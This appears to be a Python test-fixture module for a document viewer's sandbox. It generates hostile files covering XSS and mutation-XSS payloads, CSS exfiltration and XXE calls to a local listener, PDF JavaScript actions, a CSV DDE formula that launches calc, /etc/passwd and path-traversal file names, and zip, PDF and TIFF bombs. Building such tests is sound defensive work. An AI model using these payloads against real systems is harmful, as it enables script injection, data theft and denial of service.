# ruff: noqa: E501  (one attack per line)
"""Hostile documents: they try to run scripts, open connections, navigate or exhaust resources.

`CALL` is the address they contact; @PORT@ is replaced by the port of the test's listener.
Scripts mark the page when they run; requests are recorded by the listener.
"""

import gzip
import html
import json
import struct
import zlib
from itertools import count

from viewer.tests.samples import (
    OPEN_DOCUMENT,
    OPEN_XML,
    docx,
    linked_pdf,
    mail,
    open_document,
    package,
    pdf,
    picture,
    psd,
    tar,
    xlsx,
)

CALL = "http://127.0.0.1:@PORT@"
RUN = (
    f"self.ran=1;try{{top.document.title='ran'}}catch(e){{}};document.title='ran';new Image().src='{CALL}/ran';"
    "try{localStorage.ran=1}catch(e){};try{top.location='@CALL@/top'}catch(e){}"
).replace("@CALL@", CALL)
HTML, SVG, XML, TEXT, MD = "text/html", "image/svg+xml", "text/xml", "text/plain", "text/markdown"
IN_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="{RUN}">'
IN_XHTML = f'<html xmlns="http://www.w3.org/1999/xhtml"><script>{RUN}</script></html>'

IN_HTML = {
    "script": f"<script>{RUN}</script>",
    "module": f"<script type=module>{RUN}</script>",
    "script from elsewhere": f"<script src={CALL}/script></script>",
    "svg onload": f"{IN_SVG}</svg>",
    "foreignObject": f"{IN_SVG}<foreignObject><iframe srcdoc='<script>{RUN}</script>'/></foreignObject></svg>",
    "img onerror": f'<img src=x: onerror="{RUN}">',
    "autofocus": f'<input autofocus onfocus="{RUN}"><a tabindex=0 autofocus onfocus="{RUN}">x</a>',
    "details ontoggle": f'<details open ontoggle="{RUN}">x</details>',
    "animation": f'<style>@keyframes x{{}}p{{animation:x 1s}}</style><p onanimationstart="{RUN}">x',
    "meta refresh": f'<meta http-equiv=refresh content="0;url={CALL}/refresh">',
    "meta policy": f"<meta http-equiv=Content-Security-Policy content='script-src *'><script>{RUN}</script>",
    "base": f"<base href={CALL}/base/ target=_top><img src=x><link rel=stylesheet href=x>",
    "javascript link": f'<a id=go href="javascript:{RUN}">go</a><a href=" java\nscript:{RUN}">go</a>',
    "data link": f'<a href="data:text/html,<script>{RUN}</script>" target=_top>go</a>',
    "form": f"<form id=f action={CALL}/form method=post target=_top><input name=a autofocus><button>go</button></form>",
    "form action script": f'<form action="javascript:{RUN}"><button autofocus>go</button></form>',
    "isindex": f'<button form=x formaction="javascript:{RUN}">go</button><form id=x></form>',
    "css import": f"<style>@import '{CALL}/import';@font-face{{font-family:x;src:url({CALL}/font)}}*{{font-family:x}}</style>x",
    "css exfiltration": f"<style>body{{background:url({CALL}/css)}}*{{list-style:url({CALL}/li)}}</style><input value=a>",
    "inline css": f"<p style=\"background:url('{CALL}/style')\">x<table background={CALL}/table><td>x",
    "picture": f"<img src={CALL}/img srcset={CALL}/srcset><picture><source srcset={CALL}/source><img></picture>",
    "media": f"<video src={CALL}/video poster={CALL}/poster autoplay></video><audio src={CALL}/audio autoplay></audio>",
    "track": f"<video autoplay><source src={CALL}/vs><track default src={CALL}/track></video>",
    "object": f"<object data={CALL}/object></object><embed src={CALL}/embed><applet code={CALL}/applet>",
    "frame": f"<iframe src={CALL}/frame></iframe>",
    "frameset": f"<frameset><frame src={CALL}/frameset></frameset>",
    "srcdoc": f'<iframe srcdoc="<script>{RUN}</script><img src={CALL}/srcdoc>"></iframe>',
    "srcdoc breakout": f'"\'></iframe><script>{RUN}</script><iframe srcdoc="x',
    "javascript frame": f'<iframe src="javascript:{RUN}"></iframe>',
    "nested frames": "<iframe srcdoc='" * 8 + f"<script>{RUN}</script>" + "'></iframe>" * 8,
    "links": f"<link rel=stylesheet href={CALL}/css><link rel=preload as=script href={CALL}/preload>"
    f"<link rel=prefetch href={CALL}/prefetch><link rel=preconnect href={CALL}><link rel=icon href={CALL}/icon>"
    f"<link rel=dns-prefetch href={CALL}><link rel=manifest href={CALL}/manifest><link rel=prerender href={CALL}/p>",
    "speculation": f'<script type=speculationrules>{{"prefetch":[{{"urls":["{CALL}/spec"]}}]}}</script>',
    "ping": f"<a id=go href=# ping={CALL}/ping>go</a>",
    "end of script": f"</script></style></title></textarea></noscript><script>{RUN}</script>",
    "comment": f"<!--><script>{RUN}</script>--><!-- --!><script>{RUN}</script><![CDATA[<script>{RUN}</script>]]>",
    "mutation style": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror={RUN}&gt;">',
    "mutation noscript": f"<noscript><p title=\"</noscript><img src=x onerror='{RUN}'>\">",
    "mutation svg": f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    "mutation select": f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    "clobbering": "<a id=document></a><img name=createElement><form name=body><input name=original><a id=original>",
    "line separators": f"\u2028<script>{RUN}</script>\u2029",
    "dangling markup": f"<img src='{CALL}/dangling?",
    "template": f"<template shadowrootmode=open><script>{RUN}</script></template><div><template shadowrootmode=open>"
    f"<img src={CALL}/shadow></template></div>",
    "xlink": f'<svg><a xlink:href="javascript:{RUN}"><text y=20>go</text></a><use href={CALL}/use#x></use></svg>',
    "image in svg": f"<svg><image href={CALL}/image></image><animate attributeName=href values={CALL}/v></svg>",
    "area": f'<map name=m><area shape=default href="javascript:{RUN}"></map><img usemap=#m src=data:,>',
    "marquee": f'<marquee onstart="{RUN}">x</marquee><body onload="{RUN}" onpageshow="{RUN}">',
    "popover": f'<button popovertarget=x>x</button><div popover id=x onbeforetoggle="{RUN}">x</div>',
}
SHEETS = f'<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="{CALL}/xsl"?>'
ENTITIES = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)
ACTION = (
    "/OpenAction<</S/JavaScript/JS(app.alert\\('ran'\\);app.launchURL\\('@CALL@/pdf'\\))>>".replace(
        "@CALL@", CALL
    )
)
LINK = f"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 300 200]/A<</S/URI/URI({CALL}/uri)>>>>]"
SUBMIT = f"/AA<</O<</S/SubmitForm/F<</FS/URL/F({CALL}/submit)>>>>>>"

TARGETS = (
    "javascript:location='@CALL@/uri'",
    "data:text/html,<img src=@CALL@/data>",
    '" onfocus="location=`@CALL@/x`" autofocus x="',
    "https://@CALL@/</a><img src=@CALL@/y>",
    "file:///etc/passwd",
)
TARGETS = tuple(one.replace("@CALL@", CALL) for one in TARGETS)
TITLE = f"<img src={CALL}/title onerror=location='{CALL}/title'>"


def _notebook():
    texts = (f"<script>{RUN}</script>![x](attachment:a)", f"<img src={CALL}/raw onerror={RUN}>")
    shown = [{kind: text} for text in IN_HTML.values() for kind in ("text/html", "text/markdown")]
    shown.append({"image/png": f'x" onerror="{RUN}', "text/plain": RUN})
    source = f"</code><script>{RUN}</script>"
    cells = [{"cell_type": "code", "source": source, "outputs": [{"data": one}]} for one in shown]
    cells += [
        {"cell_type": kind, "source": text}
        for kind, text in zip(("markdown", "raw"), texts, strict=True)
    ]
    named = {"language_info": {"name": f"<script>{RUN}</script>"}}
    return json.dumps({"metadata": named, "cells": cells})


def _latin(data):
    return data.decode("latin-1")


SCRIPT, PAGE = f"<script>{RUN}</script>", f"<html><script>{RUN}</script></html>"
OTHERS = {  # by content type
    SVG: {
        "svg alone": f"{IN_SVG}{SCRIPT}<image href='{CALL}/i'/></svg>",
        "svg foreignObject": f"{IN_SVG}<foreignObject>{IN_XHTML}</foreignObject></svg>",
        "svg style": f"{IN_SVG}<style>@import url({CALL}/svgcss);</style><text>x</text></svg>",
        "svg entities": f"{ENTITIES}]><svg xmlns='http://www.w3.org/2000/svg'><text>&i;</text></svg>",
        "html said to be svg": PAGE,
    },
    XML: {
        "xml with a sheet": f"{SHEETS}<x xmlns:h='http://www.w3.org/1999/xhtml'><h:script>{RUN}</h:script></x>",
        "external entity": f"<!DOCTYPE x [<!ENTITY e SYSTEM '{CALL}/xxe'>]><x>&e;</x>",
    },
    "application/xhtml+xml": {"xhtml": IN_XHTML},
    "image/png": {"html said to be an image": SCRIPT},
    TEXT: {"html said to be text": PAGE},
    "application/octet-stream": {"html said to be nothing": PAGE},
    "audio/mpeg": {"html said to be audio": PAGE},
    "image/tiff": {"html said to be tiff": PAGE},
    "image/heic": {
        "html said to be heic": PAGE,
        "heic and html": f"\0\0\0\x20ftypheic{SCRIPT}",
    },
    "image/gif": {"gif and script": f"GIF89a/*\x01\x00\x01\x00*/=1;{RUN}//{SCRIPT}"},
    "text/javascript": {"script": RUN},
    "text/css": {
        "stylesheet": f"@import '{CALL}/own';body{{background:url({CALL}/bg)}}</style>{SCRIPT}"
    },
    "multipart/x-mixed-replace;boundary=b": {
        "multipart": f"--b\r\nContent-Type: text/html\r\n\r\n{SCRIPT}"
    },
    "multipart/related": {"archived page": f"Content-Type: text/html\r\n\r\n{SCRIPT}"},
    'text/html"><script>x</script>': {"type that is markup": SCRIPT},
    'text/plain;x="</script><img src=x>"': {"type with parameters": "x"},
    "text/html;charset=utf-7": {"utf-7": "+ADw-script+AD4-document.title='ran'+ADw-/script+AD4-"},
    "text/html;charset=utf-16": {"utf-16": _latin(SCRIPT.encode("utf-16"))},
    HTML: {"iso-2022-jp": f'<meta charset=iso-2022-jp><p title="\x1b$B">\x1b(B{SCRIPT}'},
    MD: {
        "markdown": f"[go](javascript:{RUN}) {SCRIPT} ![x]({CALL}/md) <img src={CALL}/raw>\n\n"
        f"[a]: data:text/html,{SCRIPT}\n[a] <javascript:{RUN}>\n\n```<script>\n{RUN}\n```\n"
        f"[x](<javascript:{RUN}>) [y](vbscript:x) [z](//127.0.0.1:@PORT@/z) ![i](data:image/svg+xml,<svg/onload={RUN}>)",
        "markdown title": f'[x](http://a ">{SCRIPT}") `</code>{SCRIPT}`\n\n# "><img src={CALL}/h>',
        **{
            f"markdown with {label}": f"# x\n\n{text}\n\n> [!NOTE]\n> {text}\n\n[^1]: {text}\n\nx[^1]\n"
            for label, text in IN_HTML.items()
            if label
            in ("svg onload", "img onerror", "frame", "form", "base", "picture", "clobbering")
        },
    },
    "application/x-ipynb+json": {"notebook": _notebook()},
    "text/calendar": {
        "calendar": f"BEGIN:VEVENT\nSUMMARY:{SCRIPT}\nDTSTART:<img src={CALL}/when>\n"
        f"URL:javascript:{RUN}\nORGANIZER;CN=<b>:javascript:{RUN}\nRRULE:<script>\nEND:VEVENT\n",
    },
    "text/vcard": {
        "address card": f'BEGIN:VCARD\nFN:{SCRIPT}\nPHOTO;VALUE=URI:{CALL}/photo\nTEL:"><img src={CALL}/t>\n'
        f'PHOTO:data:image/svg+xml,<svg onload="{RUN}">\nEMAIL;TYPE=<b>:x" onclick="{RUN}\nEND:VCARD\n',
    },
    "text/csv": {
        "csv": f'=cmd|\' /C calc\'!A0,{SCRIPT}\n"<img src={CALL}/csv>",=HYPERLINK("{CALL}/h")\n'
    },
    "application/json": {"json": f'{{"</script>{SCRIPT}": "<!--<script>"}}'},
    "text/x-python": {
        "code": f"'''</span></code></pre>{SCRIPT}'''\n# \u202e<img src={CALL}/code>\n"
    },
    "message/rfc822": {
        "plain mail": f'Subject: {SCRIPT}\nFrom: "><img src={CALL}/from>\n\n{SCRIPT}',
        "nonsense mail": "Content-Type: multipart/mixed; boundary=\n" * 50 + "\n--\n\n--",
    },
    "application/pdf": {
        "html said to be pdf": PAGE,
        "pdf and html": _latin(pdf("x")) + SCRIPT,
        "pdf script": _latin(pdf("x", catalog=ACTION)),
        "pdf link": _latin(pdf("x", extra=LINK)),
        "pdf links and outline": _latin(linked_pdf(*TARGETS, title=TITLE)),
        "pdf submit": _latin(pdf("x", extra=SUBMIT)),
        "pdf text": _latin(pdf(f"</text></svg><script>{CALL}")),
    },
    "application/rtf": {"rtf": f"{{\\rtf1 {SCRIPT}{{\\pict\\pngblip 3c}}}}"},
    "application/msword": {"rtf said to be word": f"{{\\rtf1 {SCRIPT}}}"},
    "video/mp4": {"broken media": "\0\0\0\x20ftypisom" + "x" * 999},
    "audio/x-mpegurl": {"playlist": f"#EXTM3U\n{CALL}/playlist\n"},
    "application/internet-shortcut": {"shortcut": f"[InternetShortcut]\nURL={CALL}/url\n"},
}
DRAWING = OTHERS[SVG]["svg alone"]
NAMES = [
    f"</title></script><script>{RUN}</script>.txt",
    f'"><img src={CALL}/name onerror={RUN}>.png',
    "--><script>x</script><!--.html",
    "report\u202efdp.exe",
    "a\r\nContent-Type: text/html\r\n\r\n<script>.txt",
    "../../../etc/passwd\0.html",
    "{{ 7*7 }}{% raw %}.txt",
    "\u2028\u2029',alert(1)//.json",
]


def hostile(port):
    """Yield every document as (label, file name, content type, bytes)."""
    number = count()
    for kind, texts in ((HTML, IN_HTML), *OTHERS.items()):
        for label, text in texts.items():
            yield label, f"file{next(number)}", kind, _bytes(text, port)
    for label in ("script", "frame", "css exfiltration", "meta refresh"):
        yield f"mail: {label}", "a.eml", "message/rfc822", mail(_text(IN_HTML[label], port))
    hostile_mail = mail(_text(IN_HTML["script"], port), Subject=f"<script>{RUN}</script>")
    for name in NAMES:
        yield f"name: {name[:20]!a}", _text(name, port), TEXT, b"x"
        yield f"name: {name[:20]!a} html", _text(name, port), HTML, b"x"
    link = docx(None, rId1=_text(f"javascript:{RUN}", port).replace("&", "&amp;").replace('"', ""))
    yield "docx link", "a.docx", OPEN_XML + "wordprocessingml.document", link
    yield "workbook", "a.xlsx", SHEETS_TYPE, _workbook(port)
    yield "workbook with a DTD", "a.xlsx", SHEETS_TYPE, xlsx(xl__styles_dot_xml=f"{ENTITIES}]><x/>")
    yield "open workbook", "a.ods", OPEN_DOCUMENT + "spreadsheet", _open_workbook(port)
    yield "page said to be a workbook", "a.xls", EXCEL, _bytes(IN_HTML["svg onload"], port)
    wild_file = _bytes(IN_HTML["script"], port)
    yield "zip of html", "a.zip", "application/zip", package(**{"<b>_dot_html": wild_file})
    yield "zip of svg", "a.zip", "application/zip", package(a_dot_svg=_bytes(DRAWING, port))
    yield "tar of html", "a.tgz", "application/gzip", tar(**{"\u202e<img src=x>": wild_file})
    yield "packed drawing", "a.svgz", "image/svg+xml", gzip.compress(_bytes(DRAWING, port))
    enclosed = b"Content-Type: message/rfc822\n\n" + hostile_mail
    yield "enclosed mail", "a.eml", "message/rfc822", enclosed
    drawn = {"cell_type": "code", "outputs": [{"data": {SVG: _text(DRAWING, port)}}]}
    notebook = json.dumps({"cells": [drawn]}).encode()
    yield "drawing in a notebook", "a.ipynb", "application/json", notebook
    yield "zip slip", "a.zip", "application/zip", package(**{"..__..__<script>": b"x"})


SHEETS_TYPE, EXCEL = OPEN_XML + "spreadsheetml.sheet", "application/vnd.ms-excel"


def _workbook(port):
    """Markup as name, text, value, formula, number format and reference of cells."""
    markup = html.escape(_text(f'"><script>{RUN}</script><img src={CALL}/sheet>', port))
    cells = (
        f'<c t="inlineStr"><is><t>{markup}</t></is></c><c t="str"><v>{markup}</v></c>'
        f'<c><f>HYPERLINK("{markup}")</f></c><c t="e"><v>{markup}</v></c><c s="1"><v>1</v></c>'
        f'<c r="{markup}" s="{markup}" t="{markup}"><v>{markup}</v></c>'
    )
    code = html.escape(f'"{markup}"0')
    names, row = (markup, "#x", "sheet-1"), f'<row r="{markup}">{cells}</row>'
    wild = html.escape(_text(f"red;background:url({CALL}/style)}}</style>", port))
    color = f'<color rgb="{wild}{markup}" tint="{markup}"/>'
    styles = (
        f'<styleSheet><numFmts><numFmt numFmtId="164" formatCode="{code}"/></numFmts><fonts><font>'
        f'<b val="{markup}"/><sz val="{markup}"/>{color}</font></fonts><fills><fill><patternFill '
        f'patternType="{markup}"><fgColor rgb="{markup}"/></patternFill></fill></fills><borders>'
        f'<border><left style="{markup}">{color}</left></border></borders><cellXfs><xf><alignment '
        f'horizontal="{markup}" vertical="{markup}" textRotation="{markup}" indent="{markup}"/></xf>'
        '<xf numFmtId="164"/></cellXfs></styleSheet>'
    )
    return xlsx(row, names=names, xl__styles_dot_xml=styles)


def _open_workbook(port):
    markup = html.escape(_text(f'"><script>{RUN}</script><img src={CALL}/ods>', port))
    cell = f'<b:table-cell b:formula="{markup}"/><b:table-cell><t:p>{markup}</t:p></b:table-cell>'
    row = f"<b:table-row>{cell}</b:table-row>"
    return open_document("spreadsheet", f'<b:table b:name="{markup}">{row}</b:table>')


def _text(text, port):
    return text.replace("@PORT@", str(port))


def _bytes(text, port):
    data = _text(text, port)
    return data.encode("latin-1") if all(ord(c) < 256 for c in data) else data.encode()


def _endless_pdf():
    return pdf("x").replace(b"/Count 1/Kids[4 0 R]", b"/Count 9999999/Kids[2 0 R 2 0 R 4 0 R]")


def _inflated_pdf():
    packed = zlib.compress(b"q " * (32 << 20), 9)
    head = (
        b"%%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Count 1"
        b"/Kids[3 0 R]>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>"
        b"endobj\n4 0 obj<</Filter/FlateDecode/Length %d>>stream\n" % len(packed)
    )
    return head + packed + b"\nendstream endobj\ntrailer<</Root 1 0 R>>"


def _tiff_loop():
    """A TIFF whose list of pages leads back to its first page."""
    data = bytearray(picture("TIFF", "red", "blue"))
    first = struct.unpack("<I", data[4:8])[0]
    entries = struct.unpack("<H", data[first : first + 2])[0]
    end = first + 2 + 12 * entries
    second = struct.unpack("<I", data[end : end + 4])[0]
    end = second + 2 + 12 * struct.unpack("<H", data[second : second + 2])[0]
    data[end : end + 4] = struct.pack("<I", first)
    return bytes(data)


def _rows(row, count, **options):
    return xlsx(row * count, **options)


MERGES = '<mergeCell ref="A1:XFD1048576"/><mergeCell ref="B2:C9999"/>' * 20_000
REPEATED = 'b:number-rows-repeated="9999999"><b:table-cell b:number-columns-repeated="9999999">'
HEAVY = {  # documents that need much memory or time, by name; created on demand
    "two million lines": ("a.txt", lambda: b"\n" * (2 << 20)),
    "one long line": ("a.txt", lambda: b"word " * (200 << 10)),
    "a million columns": ("a.csv", lambda: b"a," * 1_000_000 + b"\n" + b"1," * 100_000),
    "one cell": ("a.csv", lambda: b'"' + b"x" * (3 << 20)),
    "rows": ("a.csv", lambda: b"1,2,3,4\n" * 400_000),
    "deep html": ("a.html", lambda: b"<div>" * 60_000),
    "deep json": ("a.json", lambda: b"[" * 120_000),
    "deep but allowed json": ("a.json", lambda: b"[" * 900 + b"1," * 30_000 + b"1" + b"]" * 900),
    "deep quotes": ("a.md", lambda: b">" * 100_000),
    "brackets": ("a.md", lambda: b"[" * 50_000 + b"](" * 50_000),
    "emphasis": ("a.md", lambda: b"*a_" * 60_000),
    "backticks": ("a.md", lambda: b"".join(b"`" * n + b" " for n in range(800))),
    "wide table": ("a.md", lambda: b"|a" * 2_500 + b"\n" + b"|-" * 2_500 + b"\n" + b"|x\n" * 500),
    "code of quotes": ("a.py", lambda: b"'\\" * 60_000),
    "zip bomb": ("a.docx", lambda: docx(" " * (120 << 20))),
    "xml depth": ("a.docx", lambda: docx("<w:p>" * 20_000 + "</w:p>" * 20_000)),
    "cells": (
        "a.xlsx",
        lambda: _rows('<row><c t="str"><v>x</v></c><c><v>1.5</v></c></row>', 400_000),
    ),
    "sheet bomb": ("a.xlsx", lambda: _rows("<row" + " " * 600 + "/>", 60_000)),
    "sheets and merges": (
        "a.xlsx",
        lambda: _rows("<row><c><v>1</v></c></row>", 20_000, names=["x"] * 5_000, after=MERGES),
    ),
    "repeated cells": (
        "a.ods",
        lambda: open_document(
            "spreadsheet",
            f'<b:table b:name="x"><b:table-row {REPEATED}<t:p>x</t:p></b:table-cell></b:table-row></b:table>'
            * 9_999,
        ),
    ),
    "many rows of an old workbook": ("a.xls", lambda: b"\x09\x08" * 999_999),
    "cells of a notebook": (
        "a.ipynb",
        lambda: b'{"cells":[' + b'{"cell_type":"code","source":"x=1"},' * 300_000 + b"{}]}",
    ),
    "events": ("a.ics", lambda: b"BEGIN:VEVENT\nSUMMARY:x\nEND:VEVENT\n" * 200_000),
    "folded lines": ("a.ics", lambda: b"BEGIN:VEVENT\nA" + b";" * 60_000 + b"\n x" * 12_000),
    "page tree": ("a.pdf", _endless_pdf),
    "huge page": ("a.pdf", lambda: pdf("x").replace(b"0 0 300 200", b"0 0 2e6 2e6")),
    "stream bomb": ("a.pdf", _inflated_pdf),
    "zip of a bomb": (
        "a.zip",
        lambda: package(**{f"{n}_dot_txt": bytes(1 << 20) for n in range(80)}),
    ),
    "packed tar of zeros": ("a.tgz", lambda: tar(zeros=bytes(550 << 20))),
    "packed zeros": ("a.gz", lambda: gzip.compress(bytes(100 << 20))),
    "many entries": ("a.zip", lambda: package(**{f"file {n}": b"" for n in range(20_000)})),
    "picture of many pixels": (
        "a.tif",
        lambda: picture("TIFF", "white", size=(19_000, 19_000), mode="1", compression="group4"),
    ),
    "picture of too many pixels": ("a.ppm", lambda: b"P6 60000 60000 255\n" + bytes(1 << 20)),
    "packed drawing of zeros": ("a.svgz", lambda: gzip.compress(b"<svg>" + bytes(50 << 20))),
    "mail in mails": ("a.eml", lambda: b"Content-Type: message/rfc822\n\n" * 9_000),
    "mail of many ends": (
        "a.eml",
        lambda: b"Content-Type: multipart/mixed; boundary=b\n\n" + b"--b\n\nx\n--b--\n" * 200_000,
    ),
    "four hundred pages": ("a.tif", lambda: picture("TIFF", *["red"] * 400, size=(9, 9))),
    "pages in a circle": ("a.tif", _tiff_loop),
    "large plane of a poster": ("a.psd", lambda: psd(9_000, 9_000)[: 30 << 20]),
}
